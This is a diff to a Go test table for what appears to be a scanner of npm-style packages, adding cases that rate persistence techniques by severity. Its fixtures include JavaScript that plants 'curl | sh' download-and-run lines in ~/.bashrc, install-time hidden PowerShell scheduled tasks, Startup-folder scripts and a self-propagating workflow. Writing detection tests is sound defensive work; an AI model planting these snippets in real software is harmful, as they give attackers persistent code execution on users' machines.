@@ -13,8 +13,20 @@ func TestStartupEntry(t *testing.T) {
 		{"bashrc_download_exec", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n")`}, finding.SeverityCritical},
 		// shell completion installers add a source line, not a download
 		{"bashrc_completion", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\n[ -f ~/.config/tabtab/__tabtab.bash ] && . ~/.config/tabtab/__tabtab.bash\n")`}, finding.SeverityHigh},
+		// the same after asking the user on the terminal
+		{"bashrc_completion_asked", map[string]string{"index.js": `const fs=require("fs"), rl=require("readline").createInterface({input: process.stdin, output: process.stdout});
+rl.question("Add completion to ~/.bashrc? [y/N] ", a => { if (a === "y") fs.appendFileSync(require("os").homedir() + "/.bashrc", "\n. ~/.config/tabtab/__tabtab.bash\n"); rl.close() })`}, finding.SeverityMedium},
+		// asking first does not excuse a planted command
+		{"bashrc_asked_download_exec", map[string]string{"index.js": `const fs=require("fs"), rl=require("readline").createInterface({input: process.stdin});
+rl.question("ok? ", () => fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n"))`}, finding.SeverityCritical},
 		{"xdg_autostart", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const d = path.join(os.homedir(), ".config", "autostart"); fs.writeFileSync(path.join(d, "u.desktop"), entry)`}, finding.SeverityHigh},
 		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
+		// at install time, from a command built in a template
+		{"schtasks_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": `const ps1 = require("path").join(process.env.LOCALAPPDATA, "u.ps1");
+const cmd = ` + "`" + `schtasks /create /tn "Updater" /tr "powershell -w hidden -f ${ps1}" /sc onlogon /f` + "`" + `; require("child_process").execSync(cmd)`}, finding.SeverityCritical},
+		// the Startup folder named with forward slashes by path.join
+		{"startup_folder_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": `const fs = require("fs"), path = require("path");
+const d = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "Programs", "Startup"); fs.writeFileSync(path.join(d, "sync.vbs"), vbs)`}, finding.SeverityCritical},
 		{"scaffolds_workflow", map[string]string{"index.js": `require("fs").writeFileSync(".github/workflows/ci.yml", yaml)`}, finding.SeverityLow},
 		{"worm_workflow", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".github/workflows/x.yml", y); require("child_process").execSync("git push"); fetch("https://api.github.com/user/repos")`}, finding.SeverityHigh},
 		// git hooks: planted curl | sh is critical, a hook installer medium
